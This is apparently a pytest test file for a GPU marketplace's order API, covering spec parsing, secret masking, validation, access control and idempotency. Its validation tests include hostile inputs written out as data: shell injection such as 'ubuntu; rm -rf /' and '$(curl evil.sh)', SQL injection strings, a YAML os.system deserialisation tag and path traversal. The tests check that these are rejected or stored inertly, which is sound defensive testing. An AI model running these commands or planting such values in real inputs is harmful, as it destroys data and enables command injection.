"""Orders over the API: the spec as JSON and YAML, validation, and who sees what."""

import copy
import json

import pytest
import yaml

from marketplace import services as market
from marketplace.models import Order
from tests import factories as f
from tests.factories import USD

pytestmark = pytest.mark.django_db

WORKLOAD_FILE = """\
version: "1"
name: llama fine-tune
workload:
  image: ghcr.io/acme/trainer:1.4
  command: [python, train.py]
  args: ["--epochs", "3"]
  env:
    - {name: HF_TOKEN, value: hf_secret_value, secret: true}
    - {name: EPOCHS, value: "3"}
  ports: [8888, {port: 6006, protocol: tcp}]
resources:
  gpu_count: 2
  gpu_models: [h100-sxm-80gb, h100-pcie-80gb]
  cpu_cores: 16
  memory_gib: 128
  storage_gib: 500
duration_hours: 24
max_price_per_hour: 8000000
bid_window_seconds: 300
pricing_rule: second_price
verification: none
"""


@pytest.fixture
def client_api():  # type: ignore[no-untyped-def]
    return f.api(f.client_user(), f.CLIENT)


def post_order(api, payload):  # type: ignore[no-untyped-def]
    return api.post("/api/v1/orders/", payload, format="json")


def test_yaml_workload_file_and_json_make_the_same_order(client_api) -> None:  # type: ignore[no-untyped-def]
    from_yaml = client_api.generic("POST", "/api/v1/orders/", WORKLOAD_FILE.encode(), content_type="application/yaml")
    assert from_yaml.status_code == 201, from_yaml.json()
    as_json = yaml.safe_load(WORKLOAD_FILE)
    from_json = post_order(client_api, as_json)
    assert from_json.status_code == 201
    strip = {"id", "created_at", "deadline"}
    a = {k: v for k, v in from_yaml.json().items() if k not in strip}
    b = {k: v for k, v in from_json.json().items() if k not in strip}
    assert a == b
    body = from_json.json()
    assert body["resources"] == {
        "gpu_count": 2,
        "gpu_models": ["h100-pcie-80gb", "h100-sxm-80gb"],
        "min_vram_gib": None,
        "cpu_cores": 16,
        "memory_gib": 128,
        "storage_gib": 500,
        "shm_gib": 0,
    }
    assert body["workload"]["ports"] == [{"port": 8888, "protocol": "tcp"}, {"port": 6006, "protocol": "tcp"}]
    assert body["max_price_per_gpu_hour"] == 4 * USD
    assert body["pricing_rule"] == "second_price" and body["bid_window_seconds"] == 300


def test_secret_env_values_are_never_shown(client_api) -> None:  # type: ignore[no-untyped-def]
    response = client_api.generic("POST", "/api/v1/orders/", WORKLOAD_FILE.encode(), content_type="application/yaml")
    env = response.json()["workload"]["env"]
    assert env == [
        {"name": "HF_TOKEN", "value": None, "secret": True},
        {"name": "EPOCHS", "value": "3", "secret": False},
    ]
    assert "hf_secret_value" not in client_api.get(f"/api/v1/orders/{response.json()['id']}/").content.decode()


def test_min_vram_resolves_to_the_models_that_have_it(client_api) -> None:  # type: ignore[no-untyped-def]
    payload = f.spec_payload(resources={"gpu_models": None, "min_vram_gib": 90})
    response = post_order(client_api, payload)
    assert response.status_code == 201
    assert response.json()["resources"]["gpu_models"] == ["h100-nvl-94gb", "h200-sxm-141gb"]


GOOD_IMAGES = [
    "ubuntu",
    "ubuntu:22.04",
    "library/ubuntu:22.04",
    "localhost:5000/team/app:v1",
    "registry.example.com:443/a/b/c:1.0-rc.1",
    "ghcr.io/acme/trainer@sha256:" + "a" * 64,
    "nvcr.io/nvidia/pytorch:24.05-py3",
    "my_repo/img__name:tag",
    "[::1]:5000/app:1",
]


@pytest.mark.parametrize("image", GOOD_IMAGES)
def test_valid_image_references(client_api, image: str) -> None:  # type: ignore[no-untyped-def]
    assert post_order(client_api, f.spec_payload(workload={"image": image})).status_code == 201


BAD = [
    ({"workload": {"image": "ubuntu; rm -rf /"}}, "workload"),
    ({"workload": {"image": "$(curl evil.sh)"}}, "workload"),
    ({"workload": {"image": "Ubuntu/Upper"}}, "workload"),
    ({"workload": {"image": "ubuntu:tag with space"}}, "workload"),
    ({"workload": {"image": "x' OR 1=1 --"}}, "workload"),
    ({"workload": {"image": ""}}, "workload"),
    ({"workload": {"image": "a" * 300}}, "workload"),
    ({"workload": {"image": "ubuntu@sha256:short"}}, "workload"),
    ({"workload": {"image": 42}}, "workload"),
    ({"workload": {"command": "python\x00-c"}}, "workload"),
    ({"workload": {"command": ["a"] * 65}}, "workload"),
    ({"workload": {"env": [{"name": "1BAD", "value": "x"}]}}, "workload"),
    ({"workload": {"env": [{"name": "BAD-NAME", "value": "x"}]}}, "workload"),
    ({"workload": {"env": [{"name": "A", "value": "x\x00y"}]}}, "workload"),
    ({"workload": {"env": [{"name": "A", "value": "x"}, {"name": "A", "value": "y"}]}}, "workload"),
    ({"workload": {"env": [{"name": f"V{i}", "value": "x"} for i in range(65)]}}, "workload"),
    ({"workload": {"env": [{"name": "A", "value": "x" * 40_000}]}}, "workload"),
    ({"workload": {"env": [{"name": "A", "value": "x", "colour": "red"}]}}, "workload"),
    ({"workload": {"ports": [0]}}, "workload"),
    ({"workload": {"ports": [65536]}}, "workload"),
    ({"workload": {"ports": [-1]}}, "workload"),
    ({"workload": {"ports": list(range(1000, 1017))}}, "workload"),
    ({"workload": {"ports": [80, 80]}}, "workload"),
    ({"workload": {"ports": [{"port": 80, "protocol": "sctp"}]}}, "workload"),
    ({"resources": {"gpu_count": 0}}, "resources"),
    ({"resources": {"gpu_count": 65}}, "resources"),
    ({"resources": {"gpu_count": "2"}}, "resources"),
    ({"resources": {"gpu_count": 1.5}}, "resources"),
    ({"resources": {"gpu_models": ["h100-sxm-80gb", "gtx-9999"]}}, "resources"),
    ({"resources": {"gpu_models": []}}, "resources"),
    ({"resources": {"gpu_models": None}}, "resources"),
    ({"resources": {"gpu_models": None, "min_vram_gib": 999}}, "resources"),
    ({"resources": {"cpu_cores": -4}}, "resources"),
    ({"resources": {"memory_gib": 10**9}}, "resources"),
    ({"duration_hours": 0}, "duration_hours"),
    ({"duration_hours": 721}, "duration_hours"),
    ({"max_price_per_hour": 0}, "max_price_per_hour"),
    ({"max_price_per_hour": -5}, "max_price_per_hour"),
    ({"max_price_per_hour": 10**30}, "max_price_per_hour"),
    ({"max_price_per_hour": "lots"}, "max_price_per_hour"),
    ({"max_price_per_hour": True}, "max_price_per_hour"),
    ({"bid_window_seconds": 9}, "bid_window_seconds"),
    ({"bid_window_seconds": 3601}, "bid_window_seconds"),
    ({"pricing_rule": "dutch"}, "pricing_rule"),
    ({"verification": "maybe"}, "verification"),
    ({"name": "evil\u202eexe.txt"}, "name"),
    ({"name": "bell\x07"}, "name"),
    ({"name": "x" * 101}, "name"),
    ({"surprise": 1}, "surprise"),
]


@pytest.mark.parametrize(("overrides", "field"), BAD, ids=[f"{i}-{b[1]}" for i, b in enumerate(BAD)])
def test_bad_specs_are_400_with_the_field_and_nothing_written(client_api, overrides: dict, field: str) -> None:  # type: ignore[no-untyped-def]
    payload = f.spec_payload()
    for key, value in overrides.items():
        if key in ("workload", "resources"):
            payload[key] = {**payload[key], **value}
        else:
            payload[key] = value
    response = post_order(client_api, payload)
    assert response.status_code == 400, response.json()
    error = response.json()["error"]
    assert field in error["fields"], error
    assert Order.objects.count() == 0


@pytest.mark.parametrize("missing", ["workload", "resources", "max_price_per_hour"])
def test_missing_required_fields(client_api, missing: str) -> None:  # type: ignore[no-untyped-def]
    payload = copy.deepcopy(f.spec_payload())
    del payload[missing]
    response = post_order(client_api, payload)
    assert response.status_code == 400
    assert missing in response.json()["error"]["fields"]


def test_an_order_without_a_duration_is_open_ended_and_its_first_deposit_pays_for_its_hours(client_api) -> None:  # type: ignore[no-untyped-def]
    payload = copy.deepcopy(f.spec_payload())
    del payload["duration_hours"]
    body = post_order(client_api, {**payload, "deposit_hours": 3}).json()
    assert (body["open_ended"], body["duration_hours"]) == (True, 3)
    order = Order.objects.get(pk=body["id"])
    provider = f.provider()
    lease = market.order_accept(client=order.client, order_id=order.pk, bid_id=f.bid(provider, order, USD).pk)
    assert lease.deposit == 3 * USD and (lease.ends_at - lease.started_at).total_seconds() == 3 * 3600
    # a duration says how long: a first deposit is then all of it
    both = post_order(client_api, {**f.spec_payload(), "deposit_hours": 3})
    assert both.status_code == 400 and "deposit_hours" in both.json()["error"]["fields"]


def test_shell_and_sql_metacharacters_in_command_and_env_are_data(client_api) -> None:  # type: ignore[no-untyped-def]
    tricky = "'; DROP TABLE marketplace_order; -- $(rm -rf /) `id` | && > /etc/passwd"
    payload = f.spec_payload(
        name="Ünïcødé 任务 🚀",
        workload={"command": ["bash", "-c", tricky], "env": [{"name": "QUERY", "value": tricky}]},
    )
    response = post_order(client_api, payload)
    assert response.status_code == 201
    order = Order.objects.get()
    assert order.command == ["bash", "-c", tricky]
    assert order.env == [{"name": "QUERY", "value": tricky, "secret": False}]
    assert order.name == "Ünïcødé 任务 🚀"


@pytest.mark.parametrize(
    "document",
    [
        b"workload: [unclosed",
        b"a: &x [1]\nb: *x\n",
        b"- just\n- a list\n",
        b"!!python/object:os.system {}",
        b"\x00\x01",
    ],
)
def test_bad_yaml_is_400(client_api, document: bytes) -> None:  # type: ignore[no-untyped-def]
    response = client_api.generic("POST", "/api/v1/orders/", document, content_type="application/yaml")
    assert response.status_code == 400
    assert Order.objects.count() == 0


# --- who sees what ------------------------------------------------------------------------------


def test_another_client_gets_404_everywhere() -> None:
    owner = f.client_user()
    order = f.order(owner)
    f.bid(f.provider(), order, USD)
    stranger = f.api(f.client_user(), f.CLIENT)
    assert stranger.get(f"/api/v1/orders/{order.pk}/").status_code == 404
    assert stranger.get(f"/api/v1/orders/{order.pk}/bids/").status_code == 404
    assert stranger.post(f"/api/v1/orders/{order.pk}/cancel/").status_code == 404
    assert stranger.post(f"/api/v1/orders/{order.pk}/accept/", {"bid": 1}, format="json").status_code == 404
    assert stranger.get("/api/v1/orders/").json()["count"] == 0


def test_providers_see_open_orders_but_not_after_someone_else_wins() -> None:
    from marketplace import services

    owner = f.client_user()
    order = f.order(owner)
    winner, bystander, loser = f.provider(), f.provider(), f.provider()
    win = f.bid(winner, order, USD)
    f.bid(loser, order, 2 * USD)
    bystander_api = f.api(bystander.user, f.PROVIDER)
    open_view = bystander_api.get(f"/api/v1/orders/{order.pk}/").json()
    assert open_view["status"] == "open" and open_view["bid_count"] is None
    services.order_accept(client=owner, order_id=order.pk, bid_id=win.pk)
    assert bystander_api.get(f"/api/v1/orders/{order.pk}/").status_code == 404
    # providers that bid still see the outcome of their bid, and the winner its lease
    loser_view = f.api(loser.user, f.PROVIDER).get(f"/api/v1/orders/{order.pk}/").json()
    assert loser_view["status"] == "awarded" and loser_view["lease"] is None
    assert f.api(winner.user, f.PROVIDER).get(f"/api/v1/orders/{order.pk}/").json()["lease"] is not None
    assert [o["id"] for o in f.api(loser.user, f.PROVIDER).get("/api/v1/orders/").json()["results"]] == [order.pk]


def test_order_list_filters_and_paginates() -> None:
    client = f.client_user()
    for _ in range(3):
        f.order(client)
    cancelled = f.order(client)
    Order.objects.filter(pk=cancelled.pk).update(status=Order.Status.CANCELLED)
    api = f.api(client, f.CLIENT)
    page = api.get("/api/v1/orders/?limit=2").json()
    assert page["count"] == 4 and len(page["results"]) == 2 and page["next"]
    assert api.get("/api/v1/orders/?status=open").json()["count"] == 3
    assert api.get("/api/v1/orders/?status=bogus").status_code == 400


def test_order_idempotency_key_replays_and_guards() -> None:
    api = f.api(f.client_user(), f.CLIENT)
    payload = f.spec_payload()
    first = api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="order-1")
    replay = api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="order-1")
    assert first.status_code == replay.status_code == 201
    assert first.json()["id"] == replay.json()["id"]
    assert Order.objects.count() == 1
    changed = api.post(
        "/api/v1/orders/", f.spec_payload(duration_hours=9), format="json", HTTP_IDEMPOTENCY_KEY="order-1"
    )
    assert changed.status_code == 422
    too_long = api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="k" * 300)
    assert too_long.status_code == 400
    assert Order.objects.count() == 1
    # another user may use the same key for its own request
    other = f.api(f.client_user(), f.CLIENT)
    assert other.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="order-1").status_code == 201


def test_a_failed_request_replays_its_error() -> None:
    api = f.api(f.client_user(), f.CLIENT)
    bad = f.spec_payload(duration_hours=0)
    first = api.post("/api/v1/orders/", bad, format="json", HTTP_IDEMPOTENCY_KEY="bad-1")
    again = api.post("/api/v1/orders/", bad, format="json", HTTP_IDEMPOTENCY_KEY="bad-1")
    assert first.status_code == again.status_code == 400
    assert first.json() == again.json()


def test_a_retry_while_the_first_request_is_in_flight_is_409() -> None:
    from core import idempotency
    from core.models import IdempotencyRecord

    client = f.client_user()
    api = f.api(client, f.CLIENT)
    payload = f.spec_payload()
    fingerprint = idempotency.fingerprint(method="POST", path="/api/v1/orders/", payload=payload, caller=f.CLIENT)
    IdempotencyRecord.objects.create(user=client, key="busy", fingerprint=fingerprint)
    response = api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="busy")
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "idempotency_in_progress"
    assert Order.objects.count() == 0


def test_listing_orders_takes_a_fixed_number_of_queries(django_assert_max_num_queries) -> None:  # type: ignore[no-untyped-def]
    from marketplace import services

    client = f.client_user()
    api = f.api(client, f.CLIENT)
    for _ in range(6):
        order = f.order(client)
        f.bid(f.provider(), order, USD)
    services.order_accept(client=client, order_id=order.pk, bid_id=order.bids.get().pk)
    with django_assert_max_num_queries(8):
        body = api.get("/api/v1/orders/").json()
    assert body["count"] == 6
    assert sorted(o["bid_count"] for o in body["results"]) == [0, 1, 1, 1, 1, 1]
    assert sum(1 for o in body["results"] if o["lease"]) == 1


def test_a_standing_authorization_where_nothing_is_signed_is_a_conflict_not_an_error() -> None:
    """With the escrow in the ledger (or a client the marketplace signs for) there is nothing to sign:
    a signature posted anyway is refused with 409, and the order keeps none."""
    client = f.client_user()
    order = f.order(client)
    api = f.api(client, f.CLIENT)
    assert api.get(f"/api/v1/orders/{order.pk}/authorization/").json() == {"typed_data": None}
    posted = api.post(
        f"/api/v1/orders/{order.pk}/authorization/", {"signature": "0x" + "1" * 130, "expiry": 2**40}, format="json"
    )
    assert posted.status_code == 409 and posted.json()["error"]["code"] == "nothing_to_sign"
    order.refresh_from_db()
    assert order.authorization == {}


def test_a_refusal_that_echoes_a_nul_character_is_remembered_under_its_key(client_api) -> None:  # type: ignore[no-untyped-def]
    """The refusal names the unknown field as sent, NUL and all; kept for a retry all the same
    (a JSON column cannot hold NUL: it is kept as U+FFFD), never a 500."""
    payload = {**f.spec_payload(), "typo\x00": 1}
    first = client_api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="nul-1")
    assert first.status_code == 400 and "typo\x00" in first.json()["error"]["fields"]
    again = client_api.post("/api/v1/orders/", payload, format="json", HTTP_IDEMPOTENCY_KEY="nul-1")
    assert again.status_code == 400 and again["Idempotent-Replayed"] == "true"
    assert "typo\ufffd" in again.json()["error"]["fields"]


@pytest.mark.parametrize(
    ("volumes", "said"),
    [
        ([{"name": "data", "mount": "/", "size_gib": 5}], "Not the root or a system directory"),
        ([{"name": "data", "mount": "/etc/app", "size_gib": 5}], "Not the root or a system directory"),
        ([{"name": "data", "mount": "data", "size_gib": 5}], "An absolute path"),
        ([{"name": "data", "mount": "/data/../etc", "size_gib": 5}], "An absolute path"),
        ([{"name": "Data!", "mount": "/data", "size_gib": 5}], "Lowercase letters, digits and dashes"),
        (
            [{"name": "a", "mount": "/data", "size_gib": 5}, {"name": "b", "mount": "/data", "size_gib": 5}],
            "Each volume's mount may appear once",
        ),
        ([{"name": "data", "mount": "/data", "size_gib": 500}], "more than resources.storage_gib"),
    ],
)
def test_a_volume_is_a_path_of_its_own_within_the_orders_storage(client_api, volumes: list, said: str) -> None:  # type: ignore[no-untyped-def]
    response = post_order(client_api, f.spec_payload(workload={"volumes": volumes}))
    assert response.status_code == 400
    assert said in json.dumps(response.json()["error"]["fields"]), response.json()
    kept = post_order(
        client_api, f.spec_payload(workload={"volumes": [{"name": "data", "mount": "/data", "size_gib": 20}]})
    )
    assert kept.status_code == 201
    assert kept.json()["workload"]["volumes"] == [
        {"name": "data", "mount": "/data", "size_gib": 20, "storage_class": ""}
    ]
